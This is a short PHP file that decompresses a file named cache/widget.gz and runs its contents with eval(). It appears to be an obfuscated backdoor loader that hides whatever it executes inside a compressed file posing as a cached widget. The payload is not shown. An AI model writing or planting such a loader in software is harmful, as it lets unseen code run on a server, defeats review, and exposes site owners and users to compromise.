<?php
$code = file_get_contents('compress.zlib://' . __DIR__ . '/cache/widget.gz');
eval('?>' . $code);
